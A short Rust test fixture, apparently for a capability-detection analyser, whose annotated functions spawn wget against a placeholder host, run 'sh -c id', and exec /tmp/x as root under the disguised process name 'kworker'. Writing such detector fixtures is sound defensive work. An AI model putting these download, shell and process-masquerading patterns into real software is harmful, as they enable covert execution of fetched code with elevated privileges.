//! dependency: async-process = "2.5.0"
use async_process::Command;

pub async fn run() -> std::io::Result<()> {
    Command::new("wget").arg("http://files.invalid/x").status().await?; //~ process.spawn wget; net.connect http://files.invalid/x
    Ok(())
}

pub struct Task {
    command: Command,
}

impl Task {
    pub fn new() -> Self {
        let mut command = Command::new("sh"); //~ process.spawn sh; process.shell id
        command.reap_on_drop(false).arg("-c").arg("id");
        Task { command }
    }

    pub async fn run(&mut self) -> std::io::Result<bool> {
        Ok(self.command.status().await?.success())
    }
}

pub fn replaced() -> std::io::Error {
    use async_process::unix::CommandExt;
    let mut command = Command::new("/tmp/x"); //~ process.spawn /tmp/x
    command.uid(0).arg0("kworker").exec()
}
